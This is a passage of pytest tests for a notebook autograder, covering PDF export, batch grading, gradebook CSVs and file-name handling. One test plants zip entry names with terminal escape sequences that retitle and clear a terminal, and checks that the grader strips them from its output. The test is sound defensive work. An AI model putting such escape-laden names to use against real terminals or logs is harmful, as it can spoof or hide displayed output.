    assert sum(bar.get_height() for bar in left.patches) == 1  # b has no grade: not a 0 in the histogram
    assert all(float(t).is_integer() for t in left.get_yticks())  # a count: 0, 1, never 0.25
    plt.close(fig)


# ---- the PDF the student's export makes ------------------------------------------------------------------

def _run_export(release, nb, folder: Path, before: str = "") -> str:
    """Execute the student notebook (answers filled in) as a student would, in a folder that also holds the
    export module the build put beside it, up to its export; the output."""
    from nbclient import NotebookClient

    from attn_ref.grade.checks_json import EXPORT_MODULE

    shutil.copy(release[0] / "assignments" / "practice" / f"{EXPORT_MODULE}.py", folder)
    nb = copy.deepcopy(nb)
    if before:
        export = next(i for i, c in enumerate(nb.cells) if f"from {EXPORT_MODULE} import" in c.source)
        nb.cells.insert(export, nbformat.v4.new_code_cell(before))
    for i, cell in enumerate(nb.cells):
        cell["id"] = f"run{i}"
    nbformat.write(nb, str(folder / "practice.ipynb"))
    NotebookClient(nb, timeout=300, kernel_name="python3", resources={"metadata": {"path": str(folder)}}).execute()
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def test_the_export_writes_a_pdf_of_the_written_answers_one_question_per_page(release, tmp_path):
    import zipfile

    nb = _answer(_answer(_practice(release, "blank"), "q1", "Matmuls run in parallel; steps do not."), "q2", "Memory ∝ T².", "code")
    output = _run_export(release, nb, tmp_path)
    assert "written_answers.pdf: made, and added to the zip" in output
    pdf = (tmp_path / "written_answers.pdf").read_bytes()
    assert pdf.startswith(b"%PDF") and b"/Count 6" in pdf  # six pages: one per written question
    (zip_path,) = tmp_path.glob("practice_*.zip")
    with zipfile.ZipFile(zip_path) as archive:
        assert "written_answers.pdf" in archive.namelist() and "practice.ipynb" in archive.namelist()


def test_a_pdf_that_cannot_be_made_says_so_and_the_zip_is_still_made(release, tmp_path):
    breaks_matplotlib = "import sys\nsys.modules['matplotlib.backends.backend_pdf'] = None  # the PDF backend is gone"
    output = _run_export(release, _practice(release, "blank"), tmp_path, before=breaks_matplotlib)
    assert "written_answers.pdf could NOT be made (ModuleNotFoundError" in output and "The zip is still made" in output
    assert list(tmp_path.glob("practice_*.zip")) and not (tmp_path / "written_answers.pdf").exists()


def test_finding_a_units_code_is_linear_in_the_cell(tmp_path):
    """A cell of 900,000 blank lines (under the code cap) took hours with ``^\\s*def`` in the TA's process."""
    import subprocess
    import sys

    script = ("import nbformat\nfrom attn_ref.grade.classroom.graded_code import unit_code\n"
              "cells = [nbformat.v4.new_code_cell('\\n' * 900_000 + 'x = 1'), nbformat.v4.new_code_cell('\\n' * 900_000 + 'x = (')]\n"
              "nb = nbformat.v4.new_notebook(cells=cells)\n"
              "from attn_ref.grade.checks_json import Answer, FunctionUnit, QuestionUnit\n"
              "assert unit_code(nb, FunctionUnit('t', function='softmax')) == ''\n"
              "found = unit_code(nb, QuestionUnit('q', answers=(Answer('x', 'int', 1, 1),)))\n"
              "assert found.startswith('x = 1\\n\\n') and len(found) == 20_000  # parsed, and the cell that does not parse: capped\n")
    subprocess.run([sys.executable, "-c", script], check=True, timeout=60)  # quadratic would take hours


def test_text_that_cannot_be_written_or_shown_never_ends_the_batch(release, tmp_path):
    """A lone surrogate in a written answer (JSON's \\ud800), a file name that is not UTF-8, and terminal
    escapes in the names inside a zip: the batch grades everyone and writes the whole gradebook."""
    out, _ = release
    folder = tmp_path / "class"
    (folder / "bytes").mkdir(parents=True)
    text = nbformat.writes(_answer(_practice(release, "solution"), "q1", "an answer XSURROGATEX")).replace("XSURROGATEX", "\\ud800")
    (folder / "a_surrogate.ipynb").write_text(text, encoding="utf-8")
    shutil.copy(out / "solutions/practice/practice.ipynb", folder / "bytes" / "practice.ipynb")
    with open(os.path.join(os.fsencode(folder / "bytes"), b"notes\xff.txt"), "wb") as f:
        f.write(b"not UTF-8 in its name")
    import zipfile
    with zipfile.ZipFile(folder / "escapes.zip", "w") as archive:
        for name in ("\x1b]0;TITLE\x07\x1b[2J\x1b[32mok\x1b[0m\r\na.ipynb", "b.ipynb"):
            archive.writestr(name, text)
    graded = tmp_path / "graded"
    run = _cli(str(folder), "--autograder", str(out / "autograder/practice-autograder.zip"), "--out", str(graded),
               "--jobs", "2")
    assert run.returncode == 0, run.stderr[-2000:]
    rows = {row["name"]: row for row in _csv(graded / "grades.csv")}
    assert set(rows) == {"a_surrogate", "bytes", "escapes"}
    assert float(rows["a_surrogate"]["total"]) == float(rows["bytes"]["total"]) > 0
    for produced in (run.stdout, (graded / "grades.csv").read_text(encoding="utf-8-sig"), (graded / "report.html").read_text()):
        assert "\x1b" not in produced and "\x07" not in produced
    assert "an answer" in (graded / "written" / "q1.html").read_text()


def test_results_written_before_the_hashes_had_names_of_their_own_still_count(tmp_path):
    """A batch's content hash was written as submission_hash: such results still skip the same submission."""
    from attn_ref.grade.classroom.discover import already_graded

    old = tmp_path / "old.json"
    old.write_text(json.dumps({"extra_data": {"submission_hash": "abc", "autograder_version": "v", "outcome": "graded"}}))
    new = tmp_path / "new.json"
    new.write_text(json.dumps({"extra_data": {"content_hash": "abc", "autograder_version": "v", "outcome": "graded"}}))
    assert already_graded(old, "abc", "v") and already_graded(new, "abc", "v")
    assert not already_graded(old, "abd", "v") and not already_graded(new, "abc", "w")


def test_files_whose_names_differ_by_case_form_or_extension_keep_their_own_results_and_are_warned_about(tmp_path):
    """A plain class folder where a student uploaded twice (Ada.ipynb, ada.zip) and two names differ only by
    Unicode form (José composed and decomposed): every file is graded and keeps its own results file on a disk
    that ignores case, each row is told apart in the CSVs, and the run warns that each pair may be one student."""
    import unicodedata

    from attn_ref.grade.checks_json import Checks, QuestionUnit
    from attn_ref.grade.classroom.discover import discover
    from attn_ref.grade.classroom.gradebook import Gradebook, Graded, shared_students

    names = ["Ada.ipynb", "ada.zip", unicodedata.normalize("NFC", "José.ipynb"),
             unicodedata.normalize("NFD", "José.ipynb"), "Zoe.ipynb"]
    for name in names:
        (tmp_path / "class").mkdir(exist_ok=True)
        (tmp_path / "class" / name).write_bytes(b"{}")
    subs = discover(tmp_path / "class", tmp_path / "out")
    assert len({s.key.casefold() for s in subs}) == len(subs) == 5  # results/<key>.json: one file each, any disk
    shown = [s.file_name for s in subs]
    assert len({unicodedata.normalize("NFKC", n) for n in shown}) == 5, shown  # no two rows read alike
    assert [s.file_name for s in subs if s.path.name == "Zoe.ipynb"] == ["Zoe.ipynb"]  # a name alone stays as it is
    book = Gradebook(Checks("practice", (QuestionUnit("q1"),), ()), [Graded(s, {}, {}) for s in subs])
    warned = shared_students(book)
    assert len(warned) == 2 and all("perhaps one student's" in w for w in warned), warned
    assert "Ada.ipynb, ada.zip" in warned[0] and not any("Zoe" in w for w in warned)


@pytest.mark.parametrize("saved_as", ["latin-1", "semicolons"])
def test_a_score_sheet_a_spreadsheet_saved_in_another_form_loses_no_score_and_holds_back_the_import(tmp_path, saved_as):
    """Excel saves written/scores.csv in Windows' encoding, or with ';' where the locale writes decimal commas. Read as
    it stood, the first crashed the run and the second lost every typed score when the sheet was written again. Now
    the sheet is left byte for byte, no score of it is taken, the run says why, and canvas.csv waits (exit 4)."""
    from attn_ref.grade.checks_json import Checks, QuestionUnit, WrittenPart
    from attn_ref.grade.classroom.discover import Submission
    from attn_ref.grade.classroom.gradebook import summary_lines, write_gradebook
    from attn_ref.grade.owned import private_folder
    from attn_ref.grade.results import write_results

    out, checks = tmp_path / "graded", Checks("practice", (QuestionUnit("q1"),), (WrittenPart("q1", points=2.0),))
    subs = [Submission("s1", tmp_path / "s1.ipynb", [{"name": "Zoë Ångström", "sid": "00456", "email": "zoe@uni.edu"}])]
    write_results(private_folder(out / "results") / "s1.json", {"score": 1, "tests": [{"name": "q1: x", "score": 1.0, "max_score": 1.0}],
                  "extra_data": {"submission": "s1", "status": "ok", "outcome": "graded"}})
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Ångström, Zoë\",1,00456,zoe@uni.edu,S1\n", encoding="utf-8")
    canvas = {"roster": roster, "assignment": "Practice (1)", "login_domain": None}
    write_gradebook(out, subs, checks, canvas)
    assert (out / "canvas.csv").is_file()
    sheet = out / "written" / "scores.csv"
    typed = "submission,name,sid,email,q1_written\ns1.ipynb,Zoë Ångström,00456,zoe@uni.edu,1.5\n"
    sheet.write_bytes(typed.encode("latin-1") if saved_as == "latin-1" else typed.replace(",", ";").encode("utf-8-sig"))
    before = sheet.read_bytes()
    book = write_gradebook(out, subs, checks, canvas)
    assert sheet.read_bytes() == before and book.holds_back_import and not (out / "canvas.csv").exists()
    (row,) = _csv(out / "grades.csv")
    assert row["q1_written"] == "" and row["total"] == "1"  # no score taken, none made up
    said = "\n".join(summary_lines(book))
    assert "written/scores.csv cannot be read: " in said and ("not UTF-8" in said if saved_as == "latin-1" else "separated by ';'" in said)
    sheet.write_text(typed, encoding="utf-8")  # saved again as CSV UTF-8: the score counts, the import is written
    book = write_gradebook(out, subs, checks, canvas)
    assert not book.holds_back_import and (out / "canvas.csv").is_file() and _csv(out / "grades.csv")[0]["total"] == "2.5"


def test_results_of_a_submission_the_class_no_longer_has_are_kept_and_said(tmp_path):
    """A rerun after bob.ipynb was deleted: bob has no row of grades.csv, and the run says why instead of dropping
    him without a word; his results stay where they were."""
    from attn_ref.grade.checks_json import Checks, QuestionUnit
    from attn_ref.grade.classroom.discover import Submission
    from attn_ref.grade.classroom.gradebook import summary_lines, write_gradebook
    from attn_ref.grade.owned import private_folder
    from attn_ref.grade.results import write_results

    out, checks = tmp_path / "graded", Checks("practice", (QuestionUnit("q1"),), ())
    for key in ("ada", "bob"):
        write_results(private_folder(out / "results") / f"{key}.json", {"score": 1, "tests": [], "extra_data": {
            "submission": key, "status": "ok", "outcome": "graded"}})
    ada = Submission("ada", tmp_path / "ada.ipynb")
    assert not any("no longer has" in line for line in summary_lines(write_gradebook(out, [ada, Submission("bob", tmp_path / "bob.ipynb")], checks)))
    said = "\n".join(summary_lines(write_gradebook(out, [ada], checks)))
    assert "results/ holds 1 results of submissions this class no longer has (bob): kept there, not in grades.csv" in said
    assert [r["name"] for r in _csv(out / "grades.csv")] == ["ada"] and (out / "results" / "bob.json").is_file()
